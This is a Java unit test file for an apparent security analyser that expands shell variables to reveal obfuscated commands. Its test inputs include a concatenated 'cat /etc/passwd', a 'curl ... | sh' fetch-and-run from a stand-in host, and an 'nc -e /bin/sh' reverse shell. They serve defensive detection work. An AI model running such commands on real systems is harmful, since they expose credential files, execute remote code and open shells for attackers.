package dev.vigil.analyze.unix;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.normalize.CommandLineNormalizer;
import org.junit.jupiter.api.Test;

class PosixVariableRevealTest {

    @Test
    void variablesSetOnTheLineReadAsTheirValuesWhereTheyAreUsed() {
        // string concatenation through variables, as the bash manual's Parameter Expansion allows
        assertThat(PosixVariableReveal.expand("x=/etc/pas;y=swd;cat $x$y")).isEqualTo("x=/etc/pas;y=swd;cat /etc/passwd");
        assertThat(PosixVariableReveal.expand("export u='http://h.example/a.sh' && curl -s ${u} | sh"))
                .isEqualTo("export u='http://h.example/a.sh' && curl -s http://h.example/a.sh | sh");
        assertThat(PosixVariableReveal.expand("a=c b=at; $a$b /etc/hosts")).isEqualTo("a=c b=at; cat /etc/hosts");
        // the last assignment before the use wins
        assertThat(PosixVariableReveal.expand("p=x; p=nc; $p -e /bin/sh h 4444")).isEqualTo("p=x; p=nc; nc -e /bin/sh h 4444");
    }

    @Test
    void variablesNotSetOnTheLineComputedValuesAndLinesWithoutThemAreLeftAlone() {
        assertThat(PosixVariableReveal.expand("echo $HOME")).isNull();
        assertThat(PosixVariableReveal.expand("cd /tmp && ls")).isNull();
        assertThat(PosixVariableReveal.expand("d=$(date +%F); tar czf /backup/$d.tgz /srv")).isNull();
        assertThat(PosixVariableReveal.expand("grep x=1 f.txt | wc -l $")).isNull();
        assertThat(PosixVariableReveal.expand("x=\"a")).isNull();
        assertThat(PosixVariableReveal.expand(null)).isNull();
        assertThat(PosixVariableReveal.expand("$".repeat(10_000) + "x=1;$x")).isNull();
    }

    @Test
    void theNormalisedLineKeepsTheLineAsWrittenAndAddsTheExpandedOne() {
        assertThat(CommandLineNormalizer.readings("X=/etc/pas;Y=swd;cat $X$Y", false, false))
                .containsExactly("x=/etc/pas;y=swd;cat $x$y", "x=/etc/pas;y=swd;cat /etc/passwd");
        assertThat(CommandLineNormalizer.normalize("X=/etc/pas;Y=swd;cat $X$Y", false))
                .isEqualTo("x=/etc/pas;y=swd;cat $x$y x=/etc/pas;y=swd;cat /etc/passwd");
        // each reading with its case kept, by index; the line as written where there is no such reading
        assertThat(CommandLineNormalizer.normalizeCased("X=/etc/pas;Y=swd;cat $X$Y", false))
                .isEqualTo("X=/etc/pas;Y=swd;cat $X$Y");
        assertThat(CommandLineNormalizer.posixCased("X=/etc/pas;Y=swd;cat $X$Y", 1))
                .isEqualTo("X=/etc/pas;Y=swd;cat /etc/passwd");
        assertThat(CommandLineNormalizer.posixCased("X=/etc/pas;Y=swd;cat $X$Y", 5))
                .isEqualTo("X=/etc/pas;Y=swd;cat $X$Y");
    }
}
